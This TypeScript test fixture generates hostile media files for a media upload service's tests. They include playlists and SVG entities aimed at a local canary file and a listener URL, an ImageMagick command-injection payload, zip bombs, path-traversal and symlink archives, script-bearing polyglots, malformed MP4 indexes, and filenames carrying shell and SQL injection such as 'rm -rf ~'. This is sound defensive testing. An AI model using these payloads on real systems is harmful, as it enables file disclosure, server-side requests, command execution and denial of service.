import { gzipSync, deflateRawSync, crc32 } from 'node:zlib'
import type { FileKind } from '@fanlight/contract/media'
import { samples } from '@fanlight/server/modules/media/testing'
import sharp from 'sharp'
import { ascii, box, boxesOf, pngChunk, withIndex } from './telltale-files.ts'

// Files that were made to break a decoder, to make it read or fetch something else, or to be something else where they are shown. They are
// made here rather than stored: nothing in the repository may be dangerous to open.

export interface HostileFile {
  name: string
  kind: FileKind
  bytes: Buffer
  /** It is no file of this kind at all, and refused before it is stored. Others may be taken; what is made of them must be harmless. */
  refused?: true
}
/** What the files try to reach: a text file on this machine, and a server that has to stay uncalled. */
export interface Targets {
  canaryPath: string
  listenerUrl: string
}

/** Text in a file that a program would run, were it served as it came. */
export const runnable = '<script>hostile()</script><?php hostile();'

export async function corpus(targets: Targets, count: (most: number) => number): Promise<HostileFile[]> {
  const [mp4, photo, gif] = await Promise.all([
    samples.video({ size: '256x144', length: 1 }),
    samples.photo(64, 48),
    sharp(await samples.photo(40, 30))
      .gif()
      .toBuffer(),
  ])
  return [
    ...playlists(targets),
    ...markup(targets),
    ...archives(count(200_000_000)),
    ...(await polyglots(photo, gif, mp4)),
    ...(await floods(gif, count)),
    ...(await indexes(mp4, targets, count)),
  ]
}

/** Lists of other files, named as videos: a demuxer that detects the format by itself would open what they name. */
function playlists({ canaryPath, listenerUrl }: Targets): HostileFile[] {
  const hls = `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nconcat:${listenerUrl}/head|file://${canaryPath}\n#EXT-X-ENDLIST\n`
  const texts: Record<string, string> = {
    hls,
    'hls after a byte order mark': `\uFEFF${hls}`,
    'hls after spaces': `   \n${hls}`,
    'hls of a file': `#EXTM3U\n#EXTINF:1,\nfile://${canaryPath}\n`,
    'hls with a key': `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${listenerUrl}/key"\n#EXTINF:1,\ndata:video/mp4;base64,AAAA\n`,
    subfile: `#EXTM3U\n#EXTINF:1,\nsubfile,,start,0,end,100,,:${canaryPath}\n`,
    concat: `ffconcat version 1.0\nfile '${canaryPath}'\nduration 1\n`,
    'concat without a head': `file '${canaryPath}'\n`,
    dash: `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><BaseURL>${listenerUrl}/</BaseURL></Period></MPD>`,
    pls: `[playlist]\nFile1=${listenerUrl}/a.mp4\n`,
    asx: `<asx version="3.0"><entry><ref href="${listenerUrl}/a"/></entry></asx>`,
    sdp: `v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n`,
  }
  const avi = Buffer.concat([ascii('RIFF\0\x20\0\0AVI LIST\x10\0\0\0hdrlGAB2\0\x02\0'), Buffer.from(hls)])
  return (['video', 'audio', 'teaser'] as const).flatMap((kind) => [
    ...Object.entries(texts).map(([name, text]) => ({ name, kind, bytes: Buffer.from(text), refused: true as const })),
    { name: 'an AVI around a playlist', kind, bytes: avi, refused: true as const },
  ])
}

function markup({ canaryPath, listenerUrl }: Targets): HostileFile[] {
  const entities = `<!DOCTYPE svg [<!ENTITY file SYSTEM "file://${canaryPath}"><!ENTITY % far SYSTEM "${listenerUrl}/dtd"> %far;]>`
  const texts: Record<string, string> = {
    'an SVG with entities': `<?xml version="1.0"?>${entities}<svg xmlns="http://www.w3.org/2000/svg"><text>&file;</text></svg>`,
    'an SVG with images': `<svg xmlns="http://www.w3.org/2000/svg"><image href="${listenerUrl}/i.png"/><image href="file://${canaryPath}"/></svg>`,
    'an SVG with a script': `<svg xmlns="http://www.w3.org/2000/svg" onload="hostile()">${runnable}</svg>`,
    'a bomb of entities': `<?xml version="1.0"?><!DOCTYPE a [${Array.from({ length: 9 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join('')}]><a>&e9;</a>`,
    'an image magick script': `push graphic-context\nviewbox 0 0 1 1\nfill 'url(${listenerUrl}/x"|touch ${canaryPath}.touched")'\npop graphic-context\n`,
    'a page': `<!doctype html>${runnable}`,
  }
  return (['photo', 'thumbnail', 'document'] as const).flatMap((kind) =>
    Object.entries(texts).map(([name, text]) => ({ name, kind, bytes: Buffer.from(text), refused: true as const })),
  )
}

/** One entry of a zip archive, with what it says of itself. */
function zipOf(entries: { name: string; bytes: Buffer; says?: number; mode?: number }[]): Buffer {
  const locals: Buffer[] = []
  const central: Buffer[] = []
  let offset = 0
  for (const { name, bytes, says, mode = 0 } of entries) {
    const packed = deflateRawSync(bytes)
    const common = Buffer.alloc(26)
    common.writeUInt16LE(20, 0)
    common.writeUInt16LE(8, 4)
    common.writeUInt32LE(crc32(bytes), 10)
    common.writeUInt32LE(packed.length, 14)
    common.writeUInt32LE(says ?? bytes.length, 18)
    common.writeUInt16LE(Buffer.byteLength(name), 22)
    locals.push(ascii('PK\x03\x04'), common, Buffer.from(name), packed)
    const more = Buffer.alloc(14)
    more.writeUInt32LE((mode << 16) >>> 0, 6)
    more.writeUInt32LE(offset, 10)
    central.push(ascii('PK\x01\x02\x14\x03'), common, more, Buffer.from(name))
    offset += 30 + Buffer.byteLength(name) + packed.length
  }
  const directory = Buffer.concat(central)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(entries.length, 4)
  end.writeUInt16LE(entries.length, 6)
  end.writeUInt32LE(directory.length, 8)
  end.writeUInt32LE(offset, 12)
  return Buffer.concat([...locals, directory, ascii('PK\x05\x06'), end])
}

function archives(size: number): HostileFile[] {
  const inner = zipOf([{ name: 'zeros', bytes: Buffer.alloc(size) }])
  const all: Record<string, Buffer> = {
    'a zip of zeros': inner,
    'a zip of zips of zeros': zipOf(Array.from({ length: 16 }, (_, n) => ({ name: `${n}.zip`, bytes: inner }))),
    'a zip that says four gigabytes': zipOf([{ name: 'a', bytes: ascii('a'), says: 2 ** 32 - 1 }]),
    'a zip with paths that lead out': zipOf([
      { name: '../../../../tmp/hostile', bytes: ascii('x') },
      { name: '/etc/hostile', bytes: ascii('x') },
      { name: '..\\..\\hostile', bytes: ascii('x') },
    ]),
    'a zip with a link': zipOf([{ name: 'link', bytes: ascii('/etc/passwd'), mode: 0o120777 }]),
    'a gzip of zeros': gzipSync(Buffer.alloc(size)),
  }
  return Object.entries(all).flatMap(([name, bytes]) => [
    ...(['photo', 'video', 'audio', 'document'] as const).map((kind) => ({
      name,
      kind,
      bytes,
      refused: true as const,
    })),
    // Sold as it is, and never opened.
    ...(name.includes('gzip') ? [] : [{ name, kind: 'digital' as const, bytes }]),
  ])
}

/** Images and videos that are also something else. */
async function polyglots(photo: Buffer, gif: Buffer, mp4: Buffer): Promise<HostileFile[]> {
  const comment = Buffer.from(runnable)
  const jpeg = Buffer.concat([
    photo.subarray(0, 2),
    Buffer.from([0xff, 0xfe, 0, comment.length + 2]),
    comment,
    photo.subarray(2),
  ])
  const png = await samples.png(20, 20)
  const archive = zipOf([{ name: 'META-INF/MANIFEST.MF', bytes: ascii('Main-Class: Hostile') }])
  return [
    { name: 'a JPEG with PHP', kind: 'photo', bytes: jpeg },
    { name: 'a JPEG and a page', kind: 'photo', bytes: Buffer.concat([photo, comment]) },
    { name: 'a GIF and a script', kind: 'photo', bytes: Buffer.concat([gif, ascii(`/*${runnable}*/`)]) },
    { name: 'a GIF and a Java archive', kind: 'photo', bytes: Buffer.concat([gif, archive]) },
    {
      name: 'a PNG with a page in its texts',
      kind: 'photo',
      bytes: Buffer.concat([
        png.subarray(0, 33),
        pngChunk('tEXt', Buffer.concat([ascii('a\0'), comment])),
        png.subarray(33),
      ]),
    },
    { name: 'an MP4 and a page', kind: 'video', bytes: Buffer.concat([mp4, comment]) },
    {
      name: 'an MP4 with a page in its texts',
      kind: 'video',
      bytes: withIndex(mp4, (moov) =>
        Buffer.concat([
          moov,
          box('udta', box('\u00a9nam', Buffer.concat([Buffer.from([0, comment.length, 0x15, 0xc7]), comment]))),
        ]),
      ),
    },
    { name: 'a script that begins as a GIF', kind: 'photo', bytes: ascii(`GIF89a/*${runnable}*/=1;`) },
    {
      name: 'an MP4 head before a playlist',
      kind: 'video',
      bytes: Buffer.concat([box('ftyp', ascii('isom\0\0\0\0isom')), ascii('#EXTM3U\nfile:///etc/passwd\n')]),
    },
    {
      name: 'a PDF with a script',
      kind: 'photo',
      refused: true,
      bytes: ascii(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(${runnable})>>>>endobj`),
    },
  ]
}

/** Few bytes that become many pixels, or many images. */
async function floods(gif: Buffer, count: (most: number) => number): Promise<HostileFile[]> {
  const frames = count(100_000)
  // The head of a GIF and one frame of it, again and again.
  const at = gif.indexOf(Buffer.from([0x21, 0xf9]))
  const head = gif.subarray(0, at === -1 ? gif.indexOf(0x2c) : at)
  const frame = gif.subarray(head.length, -1)
  const flat = await sharp({ create: { width: 7_000, height: 7_000, channels: 3, background: '#000' } })
    .png({ compressionLevel: 9 })
    .toBuffer()
  const [width, height] = [flat.readUInt32BE(16), flat.readUInt32BE(20)]
  const larger = (w: number, h: number) => {
    const changed = Buffer.from(flat.subarray(16, 29))
    changed.writeUInt32BE(w, 0)
    changed.writeUInt32BE(h, 4)
    return Buffer.concat([flat.subarray(0, 8), pngChunk('IHDR', changed), flat.subarray(33)])
  }
  return [
    { name: 'a PNG of two gigapixels', kind: 'photo', bytes: larger(50_000, 40_000), refused: true },
    { name: 'a PNG that announces fewer rows than it has', kind: 'photo', bytes: larger(width, 1) },
    { name: 'a PNG that announces more rows than it has', kind: 'photo', bytes: larger(1, height * 7000) },
    {
      name: `a GIF of ${frames} frames`,
      kind: 'photo',
      bytes: Buffer.concat([head, ...Array.from({ length: frames }, () => frame), ascii(';')]),
    },
  ]
}

/** Indexes of MP4 that lie about their size, count or place. */
async function indexes(
  mp4: Buffer,
  { canaryPath, listenerUrl }: Targets,
  count: (most: number) => number,
): Promise<HostileFile[]> {
  const number = (...values: number[]) => {
    const bytes = Buffer.alloc(values.length * 4)
    values.forEach((value, at) => bytes.writeUInt32BE(value, at * 4))
    return bytes
  }
  const named = (name: string, change: (moov: Buffer) => Buffer): HostileFile => ({
    name,
    kind: 'video',
    bytes: withIndex(mp4, change),
  })
  const patched = (type: string, at: number, value: number) => (moov: Buffer) => {
    const copy = Buffer.from(moov)
    for (let from = copy.indexOf(type); from !== -1; from = copy.indexOf(type, from + 4))
      copy.writeUInt32BE(value, from + 4 + at)
    return copy
  }
  let deep = ascii('')
  for (let level = 0; level < count(50_000); level++)
    deep = level % 500 === 499 ? box('trak', box('mdia', deep)) : box('trak', deep)
  const track = boxesOf(mp4.subarray(boxesOf(mp4).find(({ type }) => type === 'moov')!.from + 8)).find(
    ({ type }) => type === 'trak',
  )
  if (!track) throw new Error('an MP4 without a track')
  const huge = Buffer.concat([
    box('ftyp', ascii('isom\0\0\0\0isom')),
    number(1),
    ascii('moov'),
    number(0x7fffffff, 0xffffffff),
    Buffer.alloc(64),
  ])
  return [
    { name: 'an index as large as numbers go', kind: 'video', bytes: huge },
    named('more samples than there is memory', patched('stsz', 8, 0xfffffff0)),
    named('more times than there is memory', patched('stts', 4, 0xfffffff0)),
    named('more chunks than there is memory', patched('stco', 4, 0xfffffff0)),
    named('offsets that lead out of the file', patched('stco', 8, 0xfffffff0)),
    named(`${count(1_000_000)} empty tracks`, (moov) =>
      Buffer.concat([moov, Buffer.alloc(count(1_000_000) * 8, box('trak'))]),
    ),
    named('boxes in boxes in boxes', (moov) => Buffer.concat([moov, deep])),
    named('tracks in another file', (moov) => elsewhere(moov, `file://${canaryPath}`)),
    named('tracks on another machine', (moov) => elsewhere(moov, `${listenerUrl}/track`)),
    { name: 'a file of no more than its type', kind: 'video', bytes: box('ftyp', ascii('isom\0\0\0\0isom')) },
    { name: 'half a video', kind: 'video', bytes: mp4.subarray(0, Math.floor(mp4.length / 2)) },
  ]
}

/** Says of every track that its data is somewhere else: `url ` without the flag that means "in this file". */
function elsewhere(moov: Buffer, url: string): Buffer {
  const own = Buffer.from([0, 0, 0, 12, ...ascii('url '), 0, 0, 0, 1])
  const found = moov.indexOf(own)
  if (found === -1) throw new Error('a track without a data reference')
  const entry = box('url ', Buffer.alloc(4), ascii(`${url}\0`))
  const grown = entry.length - own.length
  const changed = Buffer.concat([moov.subarray(0, found), entry, moov.subarray(found + own.length)])
  // The boxes around it are as much longer.
  for (const [path] of [[['trak', 'mdia', 'minf', 'dinf', 'dref']]] as const) grow(changed, path, found, grown)
  return changed
}
function grow(moov: Buffer, path: readonly string[], inside: number, by: number): void {
  let [from, to] = [0, moov.length]
  for (const type of path) {
    let at = from
    while (at + 8 <= to) {
      const size = moov.readUInt32BE(at)
      if (size < 8) return
      if (moov.toString('latin1', at + 4, at + 8) === type && inside >= at && inside < at + size + by) break
      at += size
    }
    moov.writeUInt32BE(moov.readUInt32BE(at) + by, at)
    to = at + moov.readUInt32BE(at)
    from = at + 8 + (type === 'dref' ? 8 : 0)
  }
}

/** Names that mean something to a shell, a path, a header or a reader. */
export const oddNames = [
  '../../../../tmp/hostile.jpg',
  '..\\..\\hostile.jpg',
  '/etc/cron.d/hostile',
  'a\u202egpj.exe',
  'a%00.jpg',
  '$(touch hostile).jpg',
  '`hostile`;rm -rf ~.jpg',
  '-i.jpg',
  'concat:a|b.mp4',
  'file:etc.mp4',
  'con.jpg',
  '.htaccess',
  "' OR 1=1 --.jpg",
  `${runnable}.jpg`,
  'ü'.repeat(3000),
  '\u0007bell.jpg',
  '  ',
]
